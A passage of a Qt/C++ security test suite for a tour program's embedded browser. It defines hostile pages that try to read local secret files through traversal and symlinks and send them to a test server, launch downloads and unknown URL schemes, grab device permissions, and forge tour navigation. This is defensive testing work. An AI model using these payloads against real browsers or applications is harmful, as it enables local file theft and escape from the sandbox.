#include "model/TourModel.h"
#include "platform/BrowserView.h"
#include "platform/Strings.h"
#include "ui/main/frmMain.h"
#include "ui/support/LoopbackServer.h"
#include "ui/support/Patience.h"
#include "ui/support/SiteEditor.h"
#include "ui/support/UiFixture.h"

#include <QApplication>
#include <QBuffer>
#include <QClipboard>
#include <QDeadlineTimer>
#include <QDesktopServices>
#include <QDialog>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QLineEdit>
#include <QPointer>
#include <QSet>
#include <QTest>
#include <QTimer>
#include <QWebEngineDownloadRequest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineSettings>
#include <QWebEngineView>
#include <filesystem>
#include <memory>

namespace wendmark {

using test::LoopbackServer;
using test::SiteEditor;
using test::UiFixture;
using test::waitUntil;

namespace {

constexpr int attackTime = 6000; // Milliseconds that a page gets to say that it has done its worst.
constexpr int departure = 600;   // Those of a page that leaves, and so cannot say it.
constexpr int aftermath = 80;    // What was asked for last may come a little later.
constexpr int clickTime = 500;   // For what a click brings about, before it is tried again.

// What no page may carry out. Pages know the words before the number only in pieces, so that they do not find
// themselves.
const QByteArray secret = "vault-4711";

/// What hostile pages have in common. They tell the server of their success, or that they are at their end.
constexpr const char* weapons = R"js(
var server = '{server}', inside = '{in}', outside = '{out}';
function send(path) { new Image().src = server + path; }
function whole(address) { return new URL(address, location.href).href; }
function won(how) { send('/success?how=' + encodeURIComponent(how)); }
function look(text) {
  var found = new RegExp('vau' + 'lt-[0-9]+').exec(String(text));
  if (found) send('/success?text=' + found[0]);
}
function attempt(act) {
  try {
    var promise = act();
    if (promise && promise.catch) promise.catch(function () {});
  } catch (error) {}
}
function lookIntoFrames() {
  for (var i = 0; i < frames.length; ++i)
    attempt(function () { look(frames[i].document.documentElement.textContent); });
}
function finish() { lookIntoFrames(); send('/done'); }
addEventListener('load', function () {
  setTimeout(lookIntoFrames, 60);
  setTimeout(finish, 220);
});
setTimeout(finish, 1000); // Where loading was broken off.
)js";

/// Ways to read a file at the address {target}, with the ending of the file that they need.
struct Reader {
    const char* name;
    const char* ending;
    const char* html;
    bool leaves; ///< The page gives way to the file.
    bool works;  ///< With a file of the tour. The engine refuses the other ways even there.
};

constexpr Reader readers[] = {
    {"frame", "txt", "<iframe src='{target}'></iframe>", false, true},
    {"frame with a script", "htm", "<iframe src='{target}'></iframe>", false, true},
    {"object", "htm", "<object data='{target}' type='text/html'></object>", false, true},
    {"embed", "htm", "<embed src='{target}' type='text/html'>", false, true},
    {"image", "png", "<img src='{target}' onload='won(\"image\")'>", false, true},
    {"image button", "png", "<input type=image src='{target}' onload='won(\"image\")'>", false, true},
    {"drawing in a drawing", "png",
     "<svg><image href='{target}' onload='won(\"image\")' width=9 height=9 /></svg>", false, true},
    {"script", "js", "<script src='{target}' onload='won(\"script\")'></script>", false, true},
    {"module", "js", "<script type=module src='{target}' onload='won(\"module\")'></script>", false, true},
    {"style sheet", "css", "<link rel=stylesheet href='{target}' onload='won(\"style\")'>", false, true},
    {"imported style sheet", "css",
     "<style>@import url('{target}');</style><script>addEventListener('load', function () {"
     " look(getComputedStyle(document.documentElement).getPropertyValue('--stolen')); });</script>",
     false, true},
    {"sound", "wav", "<audio preload=auto src='{target}' onloadedmetadata='won(\"sound\")'></audio>", false,
     true},
    {"captions", "vtt",
     "<video><track default src='{target}' onload='won(\"captions\")'></video><script>"
     "document.querySelector('track').track.mode = 'showing';</script>",
     false, true},
    {"font", "ttf",
     "<script>attempt(function () { return new FontFace('f', 'url({target})').load()"
     ".then(function () { won('font'); }); });</script>",
     false, true},
    {"request", "txt",
     "<script>attempt(function () { var r = new XMLHttpRequest(); r.open('GET', '{target}');"
     " r.onload = function () { look(r.responseText); }; r.send(); });</script>",
     false, true},
    {"waiting request", "txt",
     "<script>attempt(function () { var r = new XMLHttpRequest(); r.open('GET', '{target}', false);"
     " r.send(); look(r.responseText); });</script>",
     false, true},
    {"fetch", "txt",
     "<script>attempt(function () { return fetch('{target}').then(function (r) { return r.text(); })"
     ".then(look); });</script>",
     false, false},
    {"worker", "js",
     "<script>attempt(function () { var w = new Worker('{target}'); w.onmessage = function (e) {"
     " look(e.data); }; });</script>",
     false, true},
    {"worker's import", "js",
     "<script>attempt(function () { var w = new Worker(URL.createObjectURL(new Blob(["
     "\"try { importScripts('\" + whole('{target}') + \"'); postMessage(stolen); } catch (e) {}\"])));"
     " w.onmessage = function (e) { look(e.data); }; });</script>",
     false, true},
    {"worker's request", "txt",
     "<script>attempt(function () { var w = new Worker(URL.createObjectURL(new Blob(["
     "\"var r = new XMLHttpRequest(); r.open('GET', '\" + whole('{target}') + \"', false); r.send();"
     " postMessage(r.responseText);\"])));"
     " w.onmessage = function (e) { look(e.data); }; });</script>",
     false, true},
    {"shared worker", "js",
     "<script>attempt(function () { var w = new SharedWorker('{target}');"
     " w.port.onmessage = function (e) { look(e.data); }; w.port.start(); });</script>",
     false, false},
    {"shared worker's request", "txt",
     "<script>attempt(function () { var w = new SharedWorker(URL.createObjectURL(new Blob(["
     "\"onconnect = function (c) { var r = new XMLHttpRequest(); r.open('GET', '\" + whole('{target}') + "
     "\"', false); r.send();"
     " c.ports[0].postMessage(r.responseText); };\"])));"
     " w.port.onmessage = function (e) { look(e.data); }; w.port.start(); });</script>",
     false, false},
    {"loading ahead", "txt", "<link rel=preload as=fetch crossorigin href='{target}' onload='won(\"link\")'>",
     false, false},
    {"refresh", "htm", "<meta http-equiv=refresh content='0; url={target}'>", true, true},
    {"going there", "htm", "<script>location.href = '{target}';</script>", true, true},
    {"form", "htm", "<form action='{target}'></form><script>document.forms[0].submit();</script>", true,
     true},
};

/// Addresses of files that are not the tour's; the ending of the file is added.
struct Way {
    const char* name;
    const char* address;
};

constexpr Way waysOut[] = {
    {"beside the working copy", "../secret."},
    {"in another folder", "../Private/secret."},
    {"in a folder whose name begins alike", "../NewTour2/secret."},
    {"by its whole address", "{out}secret."},
    {"by its whole address through the working copy", "{in}../secret."},
    {"by a single slash", "file:{outpath}secret."},
    {"on this machine by name", "file://localhost{outpath}secret."},
    {"with encoded dots", "%2e%2e/secret."},
    {"with half-encoded dots", ".%2E/secret."},
    {"with encoded slash", "..%2fsecret."},
    {"with backslash", "..\\secret."},
    {"through a folder that is not there", "nowhere/../../secret."},
    {"behind a link", "link."},
    {"behind a link to a folder", "linked/secret."},
    {"behind a link whose name is no text", "link%ff."},
    {"behind a link of the tour's folder", "own-link."},
};

// The readers that are sent all ways out, by their names; the others are sent one of them each.
const QSet<QString> thorough = {QStringLiteral("frame"), QStringLiteral("request"),
                                QStringLiteral("going there")};

using Values = QHash<QString, QString>;

QString fill(const QString& text, const Values& values) {
    QString filled = text;
    for (auto value = values.begin(); value != values.end(); ++value)
        filled.replace(QLatin1Char('{') + value.key() + QLatin1Char('}'), value.value());
    return filled;
}

/// Pages of a tour that want what they must not have. What they say with won() they have got.
struct Wish {
    const char* name = "";
    const char* html = "";
    bool leaves = false;
    int dialogs = 0; ///< So many it may show.
};

constexpr Wish wishes[] = {
    {"window",
     "<script>var w = open('quiet.htm'); setTimeout(function () { if (w && !w.closed) won('window');"
     " }, 170);</script>"},
    {"window with a page of the web", "<script>open('{server}/success?how=window');</script>"},
    {"window of a size", "<script>var w = open('quiet.htm', 'w', 'width=99,height=99,popup');"
                         " setTimeout(function () { if (w && !w.closed) won('window'); }, 170);</script>"},
    {"window in a frame's name", "<iframe name=sub src='about:blank'></iframe><script>"
                                 "var w = frames[0].open('{server}/success?how=sub', 'elsewhere');</script>"},
    {"link to a window, clicked by script",
     "<a id=a target=_blank href='{server}/success?how=link'>a</a><script>"
     "document.getElementById('a').click();</script>"},
    {"link to a window, clicked by a made-up event",
     "<a id=a target=_blank href='{server}/success?how=link'>a</a><script>document.getElementById('a')"
     ".dispatchEvent(new MouseEvent('click', {bubbles: true, ctrlKey: true}));</script>"},
    {"form in a window", "<form target=_blank action='{server}/success'></form><script>"
                         "document.forms[0].submit();</script>"},
    {"link to a window with a file", "<a id=a target=_blank href='{out}secret.htm'>a</a><script>"
                                     "document.getElementById('a').click();</script>"},
    {"messages one after another", "<script>for (var i = 0; i < 5; ++i) alert('PWNED');</script>", false, 1},
    {"questions one after another", "<script>for (var i = 0; i < 5; ++i) confirm('PWNED');</script>", false,
     1},
    {"questions for a text one after another",
     "<script>for (var i = 0; i < 5; ++i) if (prompt('PWNED', 'x') !== null) won('prompt');</script>", false,
     1},
    {"question on leaving",
     "<script>onbeforeunload = function (e) { e.preventDefault(); return 'PWNED'; };"
     " setTimeout(function () { location.href = 'quiet.htm'; }, 50);</script>",
     true},
    {"printing", "<script>print();</script>"},
    {"file dialog", "<input type=file><script>document.querySelector('input').click();</script>"},
    {"colour dialog", "<input type=color><script>document.querySelector('input').click();</script>"},
    {"file picker", "<script>attempt(function () { return showOpenFilePicker().then(function () {"
                    " won('picker'); }); });</script>"},
    {"folder picker", "<script>attempt(function () { return showDirectoryPicker().then(function () {"
                      " won('picker'); }); });</script>"},
    {"name and password", "<iframe src='{server}/login.htm'></iframe>"},
    {"full screen", "<script>attempt(function () { return document.documentElement.requestFullscreen()"
                    ".then(function () { won('full screen'); }); });</script>"},
    {"closing the window", "<script>top.close(); close();</script>"},
    {"saving a file of the web", "<a id=a download=evil.sh href='{server}/program.sh'>a</a><script>"
                                 "document.getElementById('a').click();</script>"},
    {"saving made-up data", "<a id=a download=evil.sh href='data:application/x-sh,evil'>a</a><script>"
                            "document.getElementById('a').click();</script>"},
    {"saving an object", "<a id=a download=evil.sh>a</a><script>var a = document.getElementById('a');"
                         " a.href = URL.createObjectURL(new Blob(['evil'])); a.click();</script>"},
    {"saving a file of the tour", "<a id=a download=evil.sh href='quiet.htm'>a</a><script>"
                                  "document.getElementById('a').click();</script>"},
    {"attachment in a frame", "<iframe src='{server}/attachment.htm'></iframe>"},
    {"going to an attachment", "<script>location.href = '{server}/attachment.htm';</script>", true},
    {"going to a program", "<script>location.href = '{server}/program.sh';</script>", true},
    {"camera", "<script>attempt(function () { return navigator.mediaDevices.getUserMedia({video: true})"
               ".then(function () { won('camera'); }); });</script>"},
    {"microphone", "<script>attempt(function () { return navigator.mediaDevices.getUserMedia({audio: true})"
                   ".then(function () { won('microphone'); }); });</script>"},
    {"screen", "<script>attempt(function () { return navigator.mediaDevices.getDisplayMedia({video: true})"
               ".then(function () { won('screen'); }); });</script>"},
    {"desktop", "<script>attempt(function () { return navigator.mediaDevices.getUserMedia({video: {mandatory:"
                " {chromeMediaSource: 'desktop'}}}).then(function () { won('desktop'); }); });</script>"},
    {"place", "<script>attempt(function () { navigator.geolocation.getCurrentPosition(function () {"
              " won('place'); }); });</script>"},
    {"clipboard", "<script>attempt(function () { return navigator.clipboard.readText().then(function (t) {"
                  " won('clipboard'); look(t); }); });</script>"},
    {"clipboard by pasting",
     "<textarea id=t></textarea><script>var t = document.getElementById('t'); t.focus();"
     " if (document.execCommand('paste')) won('paste'); look(t.value);</script>"},
    {"notifications", "<script>attempt(function () { return Notification.requestPermission().then("
                      "function (p) { if (p === 'granted') won('notifications'); }); });</script>"},
    {"sensors and instruments",
     "<script>attempt(function () { return navigator.requestMIDIAccess({sysex: true})"
     ".then(function () { won('instruments'); }); });</script>"},
    {"the program's own objects", "<script>if (self.qt || top.qt || self.chrome && chrome.runtime)"
                                  " won('objects');</script>"},
    {"going to the program's resources", "<script>top.location.href = 'qrc:/';</script>"},
    {"the program's resources in a frame",
     "<iframe src='qrc:/' onload='attempt(function () {"
     " if (frames[0].location.protocol === \"qrc:\") won(1); })'></iframe>"},
    {"going to the engine's pages", "<script>top.location.href = 'chrome://version/';</script>"},
    {"the engine's pages in a frame", "<iframe src='chrome://gpu/'></iframe>"},
    {"crashing by an address", "<script>top.location.href = 'chrome://crash/';</script>"},
    {"engine's own scheme", "<script>top.location.href = 'qt:about';</script>"},
    {"developer tools", "<script>top.location.href = 'devtools://devtools/bundled/inspector.html';</script>"},
    {"source of a file", "<script>top.location.href = 'view-source:{out}secret.txt';</script>"},
    {"page of made-up data on top",
     "<script>top.location.href = \"data:text/html,<script>new Image().src='{server}/success?how=data'</\" +"
     " \"script>\";</script>",
     true},
    {"mail program", "<script>location.href = 'mailto:somebody@brenholt.example?subject=PWNED';</script>"},
    {"mail program by a frame", "<iframe src='mailto:somebody@brenholt.example'></iframe>"},
    {"mail program by a form", "<form action='mailto:somebody@brenholt.example'></form><script>"
                               "document.forms[0].submit();</script>"},
    {"telephone", "<a id=a href='tel:4711'>a</a><script>document.getElementById('a').click();</script>"},
    {"program of an unknown scheme", "<script>location.href = 'evil://run?calc';</script>"},
    {"program of an unknown scheme by refresh", "<meta http-equiv=refresh content='0; url=evil://run?calc'>"},
    {"list of the files around",
     "<iframe src='../'></iframe><iframe src='{out}'></iframe>"
     "<script>setTimeout(function () { for (var i = 0; i < 2; ++i) attempt(function () {"
     " if (/Private/.test(frames[i].document.body.textContent)) won('list'); }); }, 100);"
     "</script>"},
};

// What a page says to pass its own words off as those of the tour's navigator.
constexpr const char* forgery = "'>*>*>vosktourstop->3'";

/// Pages of the web that want to move the stop. {tag} is a status text that would.
struct Forgery {
    const char* name = "";
    const char* html = "";
    bool leaves = false;
    const char* address = "/attack.htm";
    const char* policy = "";
};

constexpr Forgery forgeries[] = {
    {"own status text", "<script>window.status = {tag};</script>"},
    {"status text by its name",
     "<script>status = {tag}; self.status = {tag}; defaultStatus = {tag};</script>"},
    {"the navigator's status text", "<script>attempt(function () { parent.nav.status = {tag}; });"
                                    " attempt(function () { top.frames['nav'].status = {tag}; });</script>"},
    {"status texts of all frames",
     "<script>for (var i = 0; i < 9; ++i) attempt(function () { top.frames[i].status = {tag}; });"
     " attempt(function () { top.status = {tag}; });</script>"},
    {"the accessor on other windows",
     "<script>var set = Object.getOwnPropertyDescriptor(window, 'status').set; [top, parent, "
     "parent.frames[2],"
     " null, {location: {href: '{in}page3.htm'}}].forEach(function (w) { attempt(function () {"
     " set.call(w, {tag}); }); });</script>"},
    {"a made-up location",
     "<script>attempt(function () { Object.defineProperty(window, 'location', {value:"
     " {href: '{in}page3.htm'}}); }); attempt(function () { Object.defineProperty(location,"
     " 'href', {get: function () { return '{in}page3.htm'; }}); }); status = {tag};</script>"},
    {"an address in the history",
     "<script>attempt(function () { history.pushState(null, '', '{in}page3.htm'); });"
     " attempt(function () { history.replaceState(null, '', 'file:///page3.htm'); });"
     " status = {tag};</script>"},
    {"a base address", "<base href='{in}'><script>status = {tag};</script>"},
    {"lines in the text",
     "<script>status = '\\n{in}page3.htm\\n' + {tag}; status = {tag} + '\\n' + {tag};</script>"},
    {"lines in the address",
     "<script>location.hash = '#\\n' + {tag} + '%0A' + {tag}; status = {tag};</script>"},
    {"words on the console",
     "<script>['debug', 'log', 'info', 'warn', 'error'].forEach(function (f) { console[f]({tag});"
     " console[f]('{in}page3.htm\\n' + {tag}); console[f]('%s', '{in}page3.htm\\n' + {tag}); });</script>"},
    {"words on the console behind a guessed mark",
     "<script>for (var i = 0; i < 200; ++i) console.debug(crypto.randomUUID() + '{in}page3.htm\\n' + {tag});"
     "</script>"},
    {"a mark that the accessor gives away",
     "<script>var seen = ''; var look2 = function () { seen += [].join.call(arguments); return 'x'; };"
     " console.debug = look2; window.String = look2; Function.prototype.call = look2; Array.prototype.join ="
     " look2; Object.prototype.toString = look2; Error.prepareStackTrace = function (e, s) { seen += e + s; "
     "};"
     " status = {toString: function () { seen += new Error().stack; return {tag}; }};"
     " (seen.match(/[0-9a-f]{8}-[0-9a-f-]{27}/g) || []).forEach(function (m) {"
     " console.info(m + '{in}page3.htm\\n' + {tag}); });</script>"},
    {"words of a worker",
     "<script>new Worker(URL.createObjectURL(new Blob([\"console.debug('{in}page3.htm\\\\n' +"
     " \" + JSON.stringify({tag}) + \");\"])));</script>"},
    {"a frame of its own called nav", "<iframe name=nav src='about:blank'></iframe><script>"
                                      "frames['nav'].status = {tag};</script>"},
    {"a frame with its own source",
     "<iframe srcdoc=\"<script>status = {tag}; parent.status = {tag};</script>\">"
     "</iframe>"},
    {"a frame of made-up data", "<iframe src=\"data:text/html,<script>status = {tag}; top.postMessage({tour:"
                                " 'stop', stop: 3}, '*');</script>\"></iframe>"},
    {"a frame of script", "<iframe src=\"javascript:status = {tag}\"></iframe>"},
    {"a frame with a page of the tour", "<iframe src='{in}page3.htm'></iframe>"},
    {"a frame with the tour", "<iframe src='{in}playtour.htm#stop-3'></iframe>"},
    {"a page of made-up data",
     "<script>location.href = \"data:text/html,<script>status = {tag};"
     " parent.postMessage({tour: 'go', to: 'next'}, '*'); parent.postMessage({tour: 'stop',"
     " stop: 3}, '*');</\" + \"script>\";</script>",
     true},
    {"a page of an object",
     "<script>location.href = URL.createObjectURL(new Blob([\"<script>status = {tag};"
     " parent.postMessage({tour: 'stop', stop: 3}, '*');</\" + \"script>\"],"
     " {type: 'text/html'}));</script>",
     true},
    {"a page written anew",
     "<script>setTimeout(function () { document.open(); document.write(\"<script>status ="
     " {tag};</\" + \"script>\"); document.close(); }, 50);</script>",
     true},
    {"a page after a redirect", "<script>status = {tag};</script>", false, "/to-attack.htm"},
    {"a redirect to a page of the tour", "", true, "/to-own-page.htm"},
    {"a redirect to a secret", "", true, "/to-secret.htm"},
    {"a refresh to a page of the tour", "<meta http-equiv=refresh content='0; url={in}page3.htm'>", true},
    {"going to a page of the tour", "<script>location.href = '{in}page3.htm';</script>", true},
    {"a link to a page of the tour", "<a id=a href='{in}page3.htm' target=nar>a</a><script>"
                                     "document.getElementById('a').click();</script>"},
    {"a window with a page of the tour", "<script>attempt(function () { open('{in}page3.htm'); });"
                                         " attempt(function () { open('{in}page3.htm', 'nar'); });</script>"},
    {"a form in the narration frame", "<form action='{in}page3.htm' target=nar></form><script>"
                                      "document.forms[0].submit();</script>"},
    {"the other frames' addresses",
     "<script>for (var i = 0; i < 9; ++i) attempt(function () {"
     " top.frames[i].location = '{server}/quiet.htm'; }); attempt(function () {"
     " parent.frames['nar'].location.replace('{in}page3.htm'); });</script>",
     true},
    {"messages to the frameset",
     "<script>[{tour: 'go', to: 'next'}, {tour: 'stop', stop: 3, address: 'x'},"
     " {tour: 'status', text: {tag}}, {tour: 'hello'}, {tour: 'sub-stop', address:"
     " '{server}/x'}, {tour: 'opening'}].forEach(function (m) {"
     " parent.postMessage(m, '*'); top.postMessage(m, '*'); });</script>"},
    {"messages to all frames",
     "<script>for (var i = 0; i < 9; ++i) [{tour: 'status', text: {tag}},"
     " {tour: 'announce'}, {tour: 'state', stop: 3, stopCount: 3}].forEach(function (m) {"
     " attempt(function () { top.frames[i].postMessage(m, '*'); }); });</script>"},
    {"messages of a page without an origin",
     "<script>[{tour: 'go', to: 'next'}, {tour: 'stop', stop: 3}, {tour: 'status', text: {tag}}].forEach("
     "function (m) { parent.postMessage(m, '*'); top.postMessage(m, '*'); }); status = {tag};</script>",
     false, "/attack.htm", "sandbox allow-scripts"},
    {"messages of a frame without an origin",
     "<iframe sandbox='allow-scripts' srcdoc=\"<script>top.postMessage({tour: 'go', to: 'next'}, '*');"
     " status = {tag};</script>\"></iframe>"},
    {"keys", "<script>['keydown', 'keyup'].forEach(function (k) { [window, document, top, parent].forEach("
             "function (w) { attempt(function () { w.dispatchEvent(new KeyboardEvent(k, {key: 'ArrowRight',"
             " bubbles: true})); }); }); });</script>"},
    {"the title", "<script>document.title = {tag}; top.name = {tag}; name = 'nav'; status = {tag};</script>"},
};

/// What a page of the tour itself, hostile as it may be, says of the stop.
struct Tag {
    const char* name;
    const char* number; ///< As a literal of the page's script.
};

constexpr Tag tags[] = {
    {"zero", "'0'"},
    {"minus one", "'-1'"},
    {"smallest of 16 bits", "'-32768'"},
    {"one too many", "'101'"},
    {"largest of 16 bits", "'32767'"},
    {"too much for 16 bits", "'65537'"},
    {"too much for 32 bits", "'99999999999'"},
    {"beyond all numbers", "'1e999'"},
    {"nearly one", "'0.6'"},
    {"just beyond the last one", "'100.6'"},
    {"no number", "'NaN'"},
    {"text", "'page3'"},
    {"nothing", "''"},
    {"end of text", "'\\0' + '3'"},
    {"number with an end in it", "'3\\0' + '99999'"},
    {"half a letter", "'\\ud800'"},
    {"very long", "'9'.repeat(1000000)"},
    {"other digits", "'\\u0663'"},
};

QByteArray picture() {
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    QImage image(8, 8, QImage::Format_RGB32);
    image.fill(Qt::red);
    image.save(&buffer, "PNG");
    return bytes;
}

/// A tenth of a second of silence.
QByteArray sound() {
    const QByteArray samples(800, '\x80');
    QByteArray bytes = "RIFF";
    const auto number = [&](quint32 value, int size) {
        for (int i = 0; i < size; ++i)
            bytes.append(static_cast<char>(value >> (8 * i)));
    };
    number(static_cast<quint32>(36 + samples.size()), 4);
    bytes += "WAVEfmt ";
    for (const auto& [value, size] :
         {std::pair<quint32, int>{16, 4}, {1, 2}, {1, 2}, {8000, 4}, {8000, 4}, {1, 2}, {8, 2}})
        number(value, size);
    bytes += "data";
    number(static_cast<quint32>(samples.size()), 4);
    return bytes + samples;
}

/// A font of this machine; empty when it has none.
QByteArray font() {
    for (const char* folder : {"/usr/share/fonts/truetype/dejavu", "/usr/share/fonts/truetype"}) {
        const QDir dir(QString::fromLatin1(folder));
        for (const QString& name : dir.entryList({QStringLiteral("*.ttf")}, QDir::Files)) {
            QFile file(dir.filePath(name));
            if (file.open(QIODevice::ReadOnly))
                return file.readAll();
        }
    }
    return {};
}

/// What pages may know of where they are.
Values valuesOf(const UiFixture& program, const LoopbackServer& server) {
    const QString out = program.path("");
    return {{"server", server.address("")},
            {"in", QUrl::fromLocalFile(program.working("")).toString(QUrl::FullyEncoded)},
            {"out", QUrl::fromLocalFile(out).toString(QUrl::FullyEncoded)},
            {"outpath", out}};
}

QStringList vaultEndings() {
    return {"txt", "htm", "js", "css", "png", "wav", "vtt", "ttf"};
}

QByteArray vault(const QString& ending, const Values& values) {
    if (ending == "htm")
        return fill("<p>" + secret +
                        "</p><script>new Image().src = '{server}/success?ran=' + "
                        "encodeURIComponent(location.href);</script>",
                    values)
            .toUtf8();
    if (ending == "js")
        return "var stolen = '" + secret +
               "'; self.onconnect = function (c) { c.ports[0].postMessage(stolen); };"
               "if (self.postMessage && !self.document) self.postMessage(stolen);";
    if (ending == "css")
        return ":root { --stolen: '" + secret + "'; }";
    if (ending == "png")
        return picture();
    if (ending == "wav")
        return sound();
    if (ending == "vtt")
        return "WEBVTT\n\n00:00.000 --> 00:09.000\n" + secret + "\n";
    if (ending == "ttf")
        return font();
    return secret;
}

void writeVaults(const UiFixture& program, const LoopbackServer& server, const QStringList& folders) {
    for (const QString& ending : vaultEndings()) {
        const std::string bytes = vault(ending, valuesOf(program, server)).toStdString();
        for (const QString& folder : folders)
            test::writeFile(toUtf8(program.path(folder + "secret." + ending)), bytes);
    }
}

/// What pages get from the server besides themselves.
void arm(LoopbackServer& server, const Values& values) {
    server.answer(
        "/weapons.js",
        {200, {{"Content-Type", "text/javascript"}}, fill(QLatin1String(weapons), values).toUtf8()});
    server.answer("/attachment.htm",
                  {200,
                   {{"Content-Type", "text/html"}, {"Content-Disposition", "attachment; filename=evil.sh"}},
                   "evil"});
    server.answer("/program.sh", {200, {{"Content-Type", "application/x-sh"}}, "evil"});
    server.answer("/login.htm", {401, {{"WWW-Authenticate", "Basic realm=\"Wendmark\""}}, "who?"});
    server.redirect("/to-secret.htm", fill("{in}secret.htm", values));
    server.redirect("/to-own-page.htm", fill("{in}page3.htm", values));
    server.redirect("/to-attack.htm", "/attack.htm");
    server.page("/quiet.htm", "<p>quiet</p>");
}

/// Opens what a program of this desktop would open, and only writes it down.
class Programs final : public QObject {
    Q_OBJECT

public:
    Programs() {
        for (const QString& scheme : schemes())
            QDesktopServices::setUrlHandler(scheme, this, "open");
    }
    ~Programs() override {
        for (const QString& scheme : schemes())
            QDesktopServices::unsetUrlHandler(scheme);
    }

    QStringList opened;

public slots:
    void open(const QUrl& address) { opened.append(address.toString()); }

private:
    static QStringList schemes() {
        return {"http", "https", "file", "ftp",    "mailto",     "tel",  "qrc",
                "qt",   "data",  "blob", "chrome", "javascript", "evil", "view-source"};
    }
};

void letPass(int time) {
    static_cast<void>(waitUntil([] { return false; }, time));
}

/// Sees what a page must not bring about, and says what that was.
class Watch final {
public:
    explicit Watch(LoopbackServer& server) : m_server(server), m_windows(shownWindows()) {
        m_timer.callOnTimeout([this] { lookForWindows(); });
        m_timer.start(10);
    }

    /// Sees where this browser goes from now on.
    void follow(BrowserView& browser, const QString& allowedFolder, bool toldOfFolder) {
        QObject::connect(test::engineOf(browser).page(), &QWebEnginePage::urlChanged, &m_timer,
                         [=, this](const QUrl& address) {
                             static const QStringList usual = {"file", "http", "about", "data", "blob", ""};
                             if (!usual.contains(address.scheme()))
                                 m_seen.append("shows " + address.toString());
                             if (toldOfFolder && address.isLocalFile() &&
                                 !address.toLocalFile().startsWith(allowedFolder))
                                 m_seen.append("shows " + address.toString());
                         });
    }

    void followDownloads(QWebEngineProfile& profile) {
        QObject::connect(&profile, &QWebEngineProfile::downloadRequested, &m_timer,
                         [this](QWebEngineDownloadRequest* download) {
                             const auto state = download->state();
                             if (state != QWebEngineDownloadRequest::DownloadCancelled)
                                 m_seen.append("downloads " + download->url().toString());
                         });
    }

    /// From now on the stop must stay what it is.
    void hold(const TourModel& model) {
        const std::int16_t stop = model.currentStop;
        QObject::connect(&m_timer, &QTimer::timeout, &m_timer, [this, &model, stop] {
            if (model.currentStop != stop)
                m_seen.append(QStringLiteral("the stop is %1").arg(model.currentStop));
        });
    }

    void allowDialogs(int count) { m_dialogsLeft = count; }

    void note(const QString& what) { m_seen.append(what); }

    QStringList successes() const {
        QStringList all = m_seen;
        for (const LoopbackServer::Request& request : m_server.requests()) {
            const bool carriesSecret = request.path.toUtf8().contains(secret);
            if (request.path.startsWith("/success") || carriesSecret)
                all.append("the server hears " + request.path);
        }
        for (const QString& address : m_programs.opened)
            all.append("a program gets " + address);
        all.removeDuplicates();
        return all;
    }

    bool heard(const QString& path) const { return m_server.requestsFor(path) > 0; }

    /// The time of a page that works until it says that it is done, or until it must be.
    void letAttack(bool leaves) const {
        if (leaves)
            letPass(departure);
        else
            static_cast<void>(waitUntil([&] { return heard("/done"); }, attackTime));
        letPass(aftermath);
    }

private:
    static QList<QWidget*> shownWindows() {
        QList<QWidget*> shown;
        for (QWidget* window : QApplication::topLevelWidgets()) {
            if (window->isVisible())
                shown.append(window);
        }
        return shown;
    }

    void lookForWindows() {
        for (QWidget* window : shownWindows()) {
            if (m_windows.contains(window))
                continue;
            if (--m_dialogsLeft < 0)
                m_seen.append(
                    QStringLiteral("a window: %1 \"%2\"")
                        .arg(QLatin1String(window->metaObject()->className()), window->windowTitle()));
            window->close(); // A dialog would hold the test up.
        }
    }

    LoopbackServer& m_server;
    QList<QWidget*> m_windows;
    QStringList m_seen;
    int m_dialogsLeft = 0;
    Programs m_programs;
    QTimer m_timer;
};

/// Gives whatever a page asks for.
class GenerousPage final : public QWebEnginePage {
    Q_OBJECT

public:
    explicit GenerousPage(QWebEngineProfile& profile) : QWebEnginePage(&profile) {
        settings()->setAttribute(QWebEngineSettings::JavascriptCanAccessClipboard, true);
        settings()->setAttribute(QWebEngineSettings::JavascriptCanPaste, true);
        settings()->setAttribute(QWebEngineSettings::JavascriptCanOpenWindows, true);
        connect(this, &QWebEnginePage::featurePermissionRequested, this,
                [this](const QUrl& origin, Feature feature) {
                    setFeaturePermission(origin, feature, PermissionGrantedByUser);
                });
    }

protected:
    QWebEnginePage* createWindow(WebWindowType) override {
        m_window = std::make_unique<GenerousPage>(*profile());
        return m_window.get();
    }

private:
    std::unique_ptr<GenerousPage> m_window;
};

/// Where a tour has its hostile page.
enum class Place { siteFrame, narration, logo };

/// The program with a hostile tour of three stops open in the main window, and secrets around it.
class HostileTour final {
public:
    HostileTour() : window(program.parts()) {
        writeVaults(program, server, {"", "Private/", "NewTour2/", "MyTours/hostile/"});
        arm(server, values());
    }

    Values values() const { return valuesOf(program, server); }

    /// Writes the tour into MyTours and opens it, and goes to its first stop.
    void open(Place place, const QString& html) {
        const QString page = fill(html, values());
        const QString siteAddress =
            place == Place::siteFrame ? QStringLiteral("attack.htm") : QStringLiteral("quiet.htm");
        const QString narration = place == Place::narration ? "<script src='weapons.js'></script>" + page
                                                            : QStringLiteral("Words.");
        openWith(siteAddress, narration, page, place == Place::logo);
    }

    /// The same with this address at the first stop.
    void openAt(const QString& stopAddress) {
        openWith(fill(stopAddress, values()), QStringLiteral("Words."), {}, false);
    }

    BrowserView& browser() const { return *window.findChild<BrowserView*>("broMain"); }

private:
    void openWith(const QString& siteAddress, const QString& narration, const QString& page, bool inLogo) {
        const QByteArray document =
            ("<title>Stop</title><script src='weapons.js'></script><body>" + page).toUtf8();
        tourFile("attack.htm", document);
        tourFile("quiet.htm", "<p>quiet</p>");
        if (inLogo)
            tourFile("tourlogo.htm", document);
        tourFile("weapons.js", fill(QString::fromLatin1(weapons), values()).toUtf8());
        QByteArray script = "<<<VoskInfo>>>#BufferDelay = 30\r\n\r\nHostile tour\r\n\r\n";
        for (int n = 1; n <= 3; ++n) {
            const QString stop = QString::number(n);
            script += ("<<<VoskInfo>>> Stop" + stop + "\r\nStop " + stop + "\r\n" +
                       (n == 1 ? siteAddress : QStringLiteral("newpage.htm")) + "\r\n\r\n" +
                       (n == 1 ? narration : QStringLiteral("Words.")) + "\r\n\r\n<!--instruction-->\r\n\r\n")
                          .toUtf8();
        }
        tourFile("script.txt", script);
        const QString folder = program.path("MyTours/hostile");
        for (const QString& ending : vaultEndings())
            QVERIFY(QFile::link(program.path("secret.") + ending, folder + "/own-link." + ending));

